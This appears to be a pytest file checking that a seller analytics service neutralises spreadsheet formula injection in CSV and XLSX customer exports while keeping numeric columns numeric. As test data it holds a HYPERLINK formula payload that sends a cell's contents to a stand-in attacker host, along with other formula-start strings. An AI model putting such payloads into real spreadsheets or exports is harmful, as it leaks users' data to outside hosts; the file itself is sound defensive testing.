"""Formula injection in exports (issue 8, finding 5): a customer named like a
spreadsheet formula is exported inert in CSV and XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import polars as pl
from openpyxl import load_workbook

from qoima.analytics.domain.simulate import simulate_history
from qoima.analytics.services import snapshots as analytics
from qoima.analytics.services.history import insert_history
from qoima.analytics.services.refresh import refresh_due
from qoima.platform import export_safety
from qoima.platform.unit_of_work import utcnow

EVIL = '=HYPERLINK("http://evil.example/?x="&C2,"open")'
OTHERS = ["+7 701 000 00 00", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


def _seed_evil(world) -> None:
    end = utcnow() - timedelta(days=1)
    sim = simulate_history(n_customers=40, start=end - timedelta(days=400), end=end, effect_days=3, seed=11)
    names = sim.customers["name"].to_list()
    names[0] = EVIL
    for i, other in enumerate(OTHERS, start=1):
        names[i] = other
    insert_history(world.engine, world.sellers["seller-a"], sim.customers.with_columns(pl.Series("name", names)),
                   sim.orders)
    refresh_due(world.engine)


def test_customer_export_is_inert_in_csv_and_xlsx(client, world):
    _seed_evil(world)
    h = world.headers("seller_a")
    rows = client.get("/api/v1/customers", params={"limit": 100}, headers=h).json()["items"]
    assert EVIL in [r["name"] for r in rows]  # the attack is in the data

    text = client.get("/api/v1/customers", params={"format": "csv"}, headers=h).content.decode("utf-8-sig")
    table = list(csv.DictReader(io.StringIO(text)))
    names = [r["name"] for r in table]
    assert "'" + EVIL in names and EVIL not in names
    for other in OTHERS:
        assert "'" + other in names
    assert not any(n.startswith(export_safety.FORMULA_START) for n in names)

    wb = load_workbook(io.BytesIO(client.get("/api/v1/customers", params={"format": "xlsx"}, headers=h).content))
    ws = wb.active
    header = [c.value for c in ws[1]]
    name_col, clv_col = header.index("name"), header.index("monetary")
    name_cells = [row[name_col] for row in ws.iter_rows(min_row=2)]
    evil = [c for c in name_cells if c.value == "'" + EVIL]
    assert len(evil) == 1 and evil[0].data_type == "s"
    assert all(c.data_type == "s" and not str(c.value).startswith(export_safety.FORMULA_START) for c in name_cells)
    clv_cells = [row[clv_col] for row in ws.iter_rows(min_row=2) if row[clv_col].value is not None]
    assert clv_cells and all(c.data_type == "n" for c in clv_cells)


def test_negative_numbers_stay_numbers_and_text_minus_is_quoted():
    rows = [{"customer_id": 1, "name": "-5", "amount": -1500.5, "when": "2026-01-01"},
            {"customer_id": 2, "name": "Aigerim", "amount": 200.0, "when": "=1+1"}]
    body, _ = analytics.export(rows, "xlsx")
    ws = load_workbook(io.BytesIO(body)).active
    first, second = [list(r) for r in ws.iter_rows(min_row=2)]
    assert first[1].value == "'-5" and first[1].data_type == "s"
    assert first[2].value == -1500.5 and first[2].data_type == "n"
    assert second[3].value == "'=1+1" and second[3].data_type == "s"
    text = analytics.export(rows, "csv")[0].decode("utf-8-sig")
    got = list(csv.DictReader(io.StringIO(text)))
    assert got[0]["amount"] == "-1500.5" and got[0]["name"] == "'-5" and got[1]["when"] == "'=1+1"
    assert export_safety.neutralise(-3) == -3 and export_safety.neutralise("ok") == "ok"
